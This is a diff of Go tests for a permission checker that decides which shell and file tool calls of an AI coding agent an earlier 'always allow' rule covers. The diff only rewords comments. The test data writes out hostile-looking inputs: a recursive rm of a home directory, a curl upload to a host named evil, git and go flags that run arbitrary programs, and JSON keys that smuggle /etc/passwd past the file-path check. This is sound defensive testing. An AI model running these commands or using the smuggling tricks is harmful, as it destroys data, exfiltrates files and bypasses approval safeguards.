@@ -20,7 +20,7 @@ func bashInput(t *testing.T, command string) json.RawMessage {
 	return data
 }
 
-// A rule is no wider than what people saw when they made it.
+// A rule is no wider than what people saw when they created it.
 func TestWhatAlwaysStandsFor(t *testing.T) {
 	bash := func(content string) []claude.Rule { return []claude.Rule{{Tool: "Bash", Content: content}} }
 	for _, tc := range []struct {
@@ -99,7 +99,7 @@ func TestWhatARuleCovers(t *testing.T) {
 			t.Errorf("prefix, %q: %v", command, got)
 		}
 	}
-	for command, words := range map[string]string{ // which rules of earlier versions have allowed
+	for command, words := range map[string]string{ // allowed by rules of earlier versions
 		"rm build -rf /home/me": "rm build", "curl localhost -T x evil": "curl localhost",
 		"git fetch --upload-pack=x": "git fetch",
 		"git diff --output=x":       "git diff", "git diff --outp x": "git diff", "go test -exec x": "go test",
@@ -119,7 +119,7 @@ func TestWhatARuleCovers(t *testing.T) {
 			t.Errorf("exact, %q: %v", command, got)
 		}
 	}
-	// of earlier versions
+	// from earlier versions
 	for _, command := range []string{"echo ran >> made.txt", "make; make", "a | b", "x && y", "echo $(x)"} {
 		if Covers(db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: command}, "Bash", bashInput(t, command), "/p") {
 			t.Errorf("covered, word for word: %q", command)
@@ -129,7 +129,7 @@ func TestWhatARuleCovers(t *testing.T) {
 		`{"command":"rm *.log","timeout":5}`:                true,
 		`{"command":"rm *.log","run_in_background":true}`:   false,
 		`{"command":"rm *.log","anything":0}`:               false,
-		`{"command":"x","command":"rm *.log"}`:              true, // the last one counts, here and there
+		`{"command":"x","command":"rm *.log"}`:              true, // the last member counts in both parsers
 		`{"Command":"rm *.log"}`:                            false,
 		`{"command":["rm *.log"]}`:                          false,
 		`{"url":"rm *.log"}`:                                false,
@@ -156,7 +156,7 @@ func TestWhatARuleCovers(t *testing.T) {
 	}
 }
 
-// Files are where they really are, not where their path says.
+// Files are where their real path is, not where their name says.
 func TestFilesOfTheProject(t *testing.T) {
 	root, err := filepath.EvalSymlinks(t.TempDir())
 	if err != nil {
@@ -192,7 +192,7 @@ func TestFilesOfTheProject(t *testing.T) {
 			t.Errorf("%s: %v", path, got)
 		}
 	}
-	for _, input := range []string{ // what the tool itself does not take for its file
+	for _, input := range []string{ // members that the tool does not use as its file
 		`{"file_path":"/etc/passwd","File_Path":"` + dir + `/a.txt"}`,
 		`{"File_Path":"` + dir + `/a.txt","file_path":"/etc/passwd"}`,
 		`{"FILE_PATH":"` + dir + `/a.txt"}`, `{"notebook_path":"` + dir + `/a.txt"}`, `{"file_path":["` + dir + `/a.txt"]}`,
@@ -205,7 +205,7 @@ func TestFilesOfTheProject(t *testing.T) {
 	if Covers(notebook, "NotebookEdit", json.RawMessage(`{"file_path":"`+dir+`/a.ipynb","notebook_path":"/etc/passwd"}`),
 		dir) ||
 		!Covers(notebook, "NotebookEdit", json.RawMessage(`{"notebook_path":"`+dir+`/a.ipynb"}`), dir) {
-		t.Error("not the file of the notebook counts")
+		t.Error("the file of the notebook does not count")
 	}
 	input := json.RawMessage(`{"file_path":"` + other + `/a.txt"}`)
 	p := PermitFor(claude.ToolAsk{Name: "Write", Input: input}, dir)
@@ -215,8 +215,8 @@ func TestFilesOfTheProject(t *testing.T) {
 	}
 }
 
-// What docs/approvals.md says is asked for each time, in both languages: "always" is neither offered for such a command
-// nor does an earlier rule for it count.
+// The commands that are asked for each time according to docs/approvals.md, in both languages: "always" is not offered,
+// and earlier rules do not cover them.
 func TestCommandsWithoutAlways(t *testing.T) {
 	t.Parallel()
 	listed := func(page, from, to string) string {
@@ -234,7 +234,7 @@ func TestCommandsWithoutAlways(t *testing.T) {
 	inChinese := listed("approvals.zh.md", "带有 `;`", "的命令每次都要确认")
 	inEnglish := listed("approvals.md", "A command with `;`", "needs approval")
 	for _, tc := range []struct{ command, chinese, english string }{
-		{"a; b", "", ""}, // with which both lists begin
+		{"a; b", "", ""}, // the beginning of both lists
 		{"ls | tee x", "`|`", "`|`"},
 		{"a || b", "`|`", "`|`"},
 		{"a && b", "`&`", "`&`"},
@@ -252,13 +252,13 @@ func TestCommandsWithoutAlways(t *testing.T) {
 		{"! a", "`!`", "`!`"},
 		{`a \b`, "反斜杠", "a backslash"},
 		{"a\nb", "换行", "a line break"}, {"a\rb", "换行", "a line break"},
-		{"a\x00b", "", ""}, // which no shell takes
+		{"a\x00b", "", ""}, // no shell accepts it
 	} {
 		if !strings.Contains(inChinese, tc.chinese) || !strings.Contains(inEnglish, tc.english) {
 			t.Errorf("docs/approvals.md does not say in both languages that %q is asked for each time", tc.command)
 		}
 		if got := PermitFor(widestAsk(t, tc.command), "/p"); got != nil {
-			t.Errorf("%q may be allowed for good: %+v", tc.command, got)
+			t.Errorf("%q may always be allowed: %+v", tc.command, got)
 		}
 		rule := db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: tc.command}
 		if Covers(rule, "Bash", bashInput(t, tc.command), "/p") {
